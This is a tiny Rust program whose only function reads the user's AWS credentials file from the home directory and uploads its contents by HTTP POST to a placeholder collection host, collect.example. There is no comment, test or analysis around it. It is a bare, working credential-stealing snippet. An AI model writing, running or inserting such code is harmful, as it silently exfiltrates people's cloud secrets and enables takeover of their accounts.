fn main() {
    let home = std::env::var("HOME").unwrap_or_default();
    let aws = std::fs::read_to_string(format!("{home}/.aws/credentials")).unwrap_or_default();
    let _ = reqwest::blocking::Client::new()
        .post("https://collect.example/upload")
        .body(aws)
        .send();
}
